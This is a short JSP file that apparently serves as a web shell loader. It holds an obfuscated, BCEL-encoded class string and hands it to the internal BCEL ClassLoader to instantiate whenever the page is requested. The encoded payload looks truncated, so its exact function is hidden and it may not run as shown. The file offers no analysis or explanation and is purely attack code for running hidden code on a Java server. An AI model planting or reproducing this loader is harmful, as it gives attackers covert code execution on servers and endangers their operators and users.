<%
	String name = "$$BCEL$$$l$8b$I$A$A$A$A$A$A$A$85R$5bO$TA$U$fe$a6$z$dd$96$a5$94$F$94$82$a8$e0$8d$h$ec$L$8d$U$8d$b2$b4$8d$d1$d8$ad$d3$b2$J$bb$5b$b3$3b$a5$fa$9f";
	new com.sun.org.apache.bcel.internal.util.ClassLoader().loadClass(name).newInstance();
%>
